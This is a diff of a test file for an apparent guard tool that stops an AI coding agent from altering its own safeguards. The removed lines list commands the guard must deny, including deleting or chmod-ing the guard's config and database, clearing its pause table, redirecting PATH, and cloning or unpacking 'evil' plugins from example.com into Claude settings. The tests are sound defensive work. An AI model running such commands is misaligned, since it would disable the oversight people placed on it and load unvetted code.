@@ -5,6 +5,8 @@ import { type GuardedHome, guardedHome } from "../support/guarded.ts";
 import { executions, type Row } from "../support/look.ts";
 import { needsExecutable, needsUnix, testWhere } from "../support/requirements.ts";
 import { testWith } from "../support/fixtures.ts";
+import CASES from "../testdata/hook_cases.json" with { type: "json" };
+import { rowsOf } from "../support/rows.ts";
 
 const PROTECTED = /only a person changes it/;
 
@@ -78,18 +80,7 @@ test("a file of the guards that is a link is protected under every name on its w
   link(join(home.path, "dot/config.yaml"), join(home.path, ".conclaude/config.yaml"));
   settingsIn(home, "dot/claude");
   link(join(home.path, "dot/claude/settings.json"), join(home.path, ".claude/settings.json"));
-  await home.assertDenied(PROTECTED, [
-    "echo > cfg/policy.yaml",
-    "rm cfg/policy.yaml",
-    "rm cfg/step.yaml",
-    "rm -rf cfg",
-    "mv cfg elsewhere",
-    "echo x >> ~/dot/config.yaml",
-    "rm ~/dot/config.yaml",
-    "rm -r ~/dot",
-    "rm -r ~/dot/claude",
-    "cp x ~/dot/claude/settings.json",
-  ]);
+  await home.assertDenied(PROTECTED, CASES.linkedDenied);
   assert.match((await home.bash("rm -rf ~/dot"))!, /dot\/config\.yaml belongs to the guards/);
   assert.match((await home.write(`${project}/cfg/policy.yaml`))!, PROTECTED);
   assert.match((await home.write(`${home.path}/dot/claude/settings.json`))!, PROTECTED);
@@ -100,12 +91,7 @@ test("a file of the guards that is a link is protected under every name on its w
 test("a database at another place is protected from being removed or overwritten", async (home) => {
   home.configure("database: {path: ../state/own.db}\n");
   assert.equal(await home.bash("true"), null);
-  await home.assertDenied(PROTECTED, [
-    "rm ~/state/own.db",
-    "rm -r ~/state",
-    "echo > ~/state/own.db-wal",
-    "mv ~/state /x",
-  ]);
+  await home.assertDenied(PROTECTED, CASES.databaseDenied);
   assert.match((await home.write(join(home.path, "state/own.db")))!, PROTECTED);
   assert.equal(await home.bash("echo x > ~/state/other.db"), null);
   const start = { env: { CONCLAUDE_DB_PATH: join(home.path, "else/e.db") } };
@@ -117,13 +103,7 @@ test("a database at another place is protected from being removed or overwritten
 test(".git/HEAD is protected, for requirements depend on the branch that it names", async (home) => {
   const project = home.configure("{}\n", [".git/config", "sub/.git/HEAD"]);
   put(join(project, ".git/HEAD"), "ref: refs/heads/main\n");
-  await home.assertDenied(PROTECTED, [
-    "echo junk > .git/HEAD",
-    "rm .git/HEAD",
-    "rm -rf .git",
-    "mv .git x",
-    "cd src && cp a ../.git/HEAD",
-  ]);
+  await home.assertDenied(PROTECTED, CASES.headDenied);
   assert.match((await home.write(".git/HEAD"))!, PROTECTED);
   assert.match((await home.write(".git/config"))!, PROTECTED);
   assert.match((await home.bash("rm -f .git/hooks/x"))!, PROTECTED);
@@ -146,18 +126,7 @@ test("an agent may not change the permissions of the files that the guards read"
     ".git/x",
   ]);
   put(join(project, ".git/HEAD"), "ref: refs/heads/main\n");
-  await home.assertDenied(PROTECTED, [
-    "chmod 000 .conclaude.yaml",
-    "chmod -r .conclaude.yaml",
-    "chmod 000 ~/.conclaude",
-    "chown nobody ~/state/own.db",
-    "chgrp -R nobody ~/state",
-    "setfacl -m u::- .conclaude.yaml",
-    "sudo chattr +i .conclaude.yaml",
-    "chmod 000 .git",
-    "chmod 000 ~/.claude/settings.json",
-    "sqlite3 ~/state/own.db 'delete from pauses'",
-  ]);
+  await home.assertDenied(PROTECTED, CASES.permissionsDenied);
   assert.equal(await home.bash("chmod +x scripts/a.sh; chmod -R u+w src .git/x"), null);
   assert.equal(await home.bash('chmod -R u+w,g+rX . && sudo chown -R "$USER:$USER" .'), null);
   assert.equal(await home.bash("sqlite3 -readonly ~/state/own.db 'select 1'"), null);
@@ -170,22 +139,9 @@ test("copying files of unknown names into the settings or a protected folder is 
   ]);
   settingsIn(home, ".claude");
   settingsIn(home, "cc");
-  const cases = [
-    ["cp -a src/. secrets/", /secrets/],
-    ["rsync -a --delete src/ secrets", /secrets/],
-    ["mv sub/* secrets", /secrets/],
-    ["cp -r src/. dist", /preventAdditions/],
-    ["cp -r sub/. dist", /preventAdditions/],
-    ["mkdir dist; cp -r sub dist", /preventAdditions/],
-    ["cp -r /gone/x/. ~/.claude/", PROTECTED],
-    ["rsync -a /gone/x/ ~/.claude/", PROTECTED],
-    ["mv -f /gone/x/* ~/.claude/", PROTECTED],
-    ["cp -r /gone/x/.claude ~", PROTECTED],
-    ["mv /gone/x .claude", PROTECTED],
-    ["cp -a /gone/x/. ~/.conclaude", PROTECTED],
-  ] as const;
+  const cases = rowsOf<readonly [string, string]>(CASES.unknownNames);
   for (const [command, reason] of cases) {
-    assert.match((await home.bash(command))!, reason, command);
+    assert.match((await home.bash(command))!, new RegExp(reason), command);
   }
   const start = { env: { CLAUDE_CONFIG_DIR: join(home.path, "cc") } };
   const command = "cp -r /gone/x/. ~/cc";
@@ -196,31 +152,9 @@ test("copying files of unknown names into the settings or a protected folder is 
 });
 
 test("no tool writes what the daemon starts, or code that runs inside Claude Code", async (home) => {
-  const project = home.configure("{}\n", [
-    "evil/hooks/hooks.json",
-    "evil/SKILL.md",
-    "good/SKILL.md",
-    "good/more/notes.md",
-    ".claude/skills/x/hooks_/m.js",
-    ".conclaude/workflows/own.yaml",
-  ]);
+  const project = home.configure("{}\n", CASES.filesThatRun);
   put(join(home.path, ".claude/skills/x/run.py"), "");
-  const paths = [
-    ".conclaude/workflows/new.yaml",
-    "src/../.conclaude/prompts/plan.md",
-    ".conclaude/workflow-matchers.yaml",
-    "~/.conclaude/workflows/new.yaml",
-    ".claude/skills/x/hooks/hooks.json",
-    ".claude/skills/x/hooks/m.js",
-    ".claude/skills/a/x/hooks/m.js",
-    ".claude/skills/x/.claude-plugin/plugin.json",
-    "tools/x/.claude-plugin/plugin.json",
-    "~/.claude/skills/x/run.py",
-    "~/.claude/plugins/x/m.js",
-    "~/.claude/dev-mods/m.js",
-    "/etc/claude-code/managed-settings.json",
-  ];
-  for (const path of paths) {
+  for (const path of CASES.runPaths) {
     const file_path = path.replace(/^~/, home.path);
     assert.match((await home.write(file_path))!, PROTECTED, path);
     assert.match((await home.edit(file_path))!, PROTECTED, path);
@@ -229,73 +163,20 @@ test("no tool writes what the daemon starts, or code that runs inside Claude Cod
   const modules = { file_path: "tools/x/hooks.json", content: '{"modules": ["./m.js"]}' };
   assert.match((await home.ask("Write", modules))!, PROTECTED);
   const settings = join(project, ".claude/settings.json");
-  const contents = [
-    '{"env": {"PATH": "/tmp/evil"}}',
-    '{"enabledPlugins": {"x@here": true}}',
-    '{"extraKnownMarketplaces": {"here": {}}}',
-  ];
-  for (const content of contents) {
+  for (const content of CASES.runSettings) {
     assert.match((await home.ask("Write", { file_path: settings, content }))!, PROTECTED, content);
   }
-  await home.assertDenied(PROTECTED, [
-    "cp -r evil .claude/skills/evil",
-    "cp -r evil/. .claude/skills/y/",
-    "cp -r /gone/evil .claude/skills/evil",
-    "mv evil .claude/skills/",
-    "mv .claude/skills/x/hooks_ .claude/skills/x/hooks",
-    "cp evil/hooks/hooks.json tools/hooks/hooks.json",
-    "tar -xf evil.tgz -C .claude/skills",
-    "tar -xf evil.tgz -C .claude",
-    "unzip evil.zip -d ~/.claude/plugins/evil",
-    "git clone https://example.com/evil ~/.claude/plugins/evil",
-    "git clone https://example.com/evil.git .claude/skills/evil",
-    "cd .claude/skills && git clone git@example.com:a/evil.git",
-    "git submodule add https://example.com/evil .claude/skills/evil",
-    "git mv evil .claude/skills/other",
-    "git mv evil .claude/skills/",
-    "cat x > .CLAUDE/Settings.json",
-    "cat x > .Claude/skills/x/Hooks/m.js",
-    "ln -s /tmp/evil .claude/skills/evil",
-    "ln -sfn ../../evil .claude/skills/",
-    "ln -s /tmp/skills ~/.claude/skills",
-    "mkdir -p .claude/skills/z/hooks && cd .claude/skills/z && tee hooks/m.js < /dev/null",
-    "rm .conclaude/workflows/own.yaml",
-    "rm -r .conclaude/workflows",
-    "mv .conclaude/workflows/own.yaml /tmp",
-    "rsync -a evil ~/.claude/skills",
-    "sudo cp x.json /etc/claude-code/managed-settings.d/",
-  ]);
-  await home.assertDenied(/only a person chooses which plugins/, [
-    "claude plugin install evil@market",
-    "/usr/bin/claude plugins --verbose enable evil",
-    "npx claude plugin marketplace add ./evil",
-  ]);
+  await home.assertDenied(PROTECTED, CASES.runFilesDenied);
+  await home.assertDenied(/only a person chooses which plugins/, CASES.pluginFiles);
 });
 
 test("skill texts, commands, agents and a project's own hooks are written as ever", async (home) => {
-  const project = home.configure("preToolUse: {preventRootAdditions: false}\n", [
-    "good/SKILL.md",
-    "good/more/notes.md",
-    ".claude/settings.json",
-  ]);
+  const project = home.configure(
+    "preToolUse: {preventRootAdditions: false}\n",
+    CASES.filesOfSkills,
+  );
   put(join(project, ".claude/settings.json"), '{"env": {"A": "1"}}');
-  const paths = [
-    ".claude/skills/x/SKILL.md",
-    ".claude/skills/x/scripts/run.py",
-    ".claude/commands/x.md",
-    ".claude/agents/x.md",
-    "hooks/useThing.ts",
-    "src/hooks/index.ts",
-    "src/hooks/hooks.json",
-    "prompts/plan.md",
-    "workflows/own.yaml",
-    ".github/workflows/ci.yaml",
-    "~/.claude/skills/x/SKILL.md",
-    "~/.claude/skills/x/more/notes.md",
-    "~/.claude/agents/x.md",
-    "~/.conclaude/notes.md",
-  ];
-  for (const path of paths) {
+  for (const path of CASES.writablePaths) {
     assert.equal(await home.write(path.replace(/^~/, home.path)), null, path);
   }
   const permissions = {
@@ -303,18 +184,7 @@ test("skill texts, commands, agents and a project's own hooks are written as eve
     content: '{"env": {"A": "1"}, "permissions": {"allow": ["Bash(npm test:*)"]}}',
   };
   assert.equal(await home.ask("Write", permissions), null);
-  await home.assertAllowed([
-    "echo x > .claude/skills/x/SKILL.md",
-    "mkdir -p .claude/skills/x/scripts && cp src/a.py .claude/skills/x/scripts/",
-    "cp -r good .claude/skills/good",
-    "cp -r good ~/.claude/skills/",
-    "rm -r .claude/skills/x",
-    "ln -s ../../../AGENTS.md .claude/skills/x/SKILL.md",
-    "git clone https://example.com/tool.git",
-    "tar -xf skill.tgz -C vendor",
-    "claude plugin list --json; claude plugin validate tools/x; claude plugin marketplace list",
-    "mkdir -p .conclaude/notes && echo x > .conclaude/notes/a.md",
-  ]);
+  await home.assertAllowed(CASES.writableAllowed);
 });
 
 testWhere(
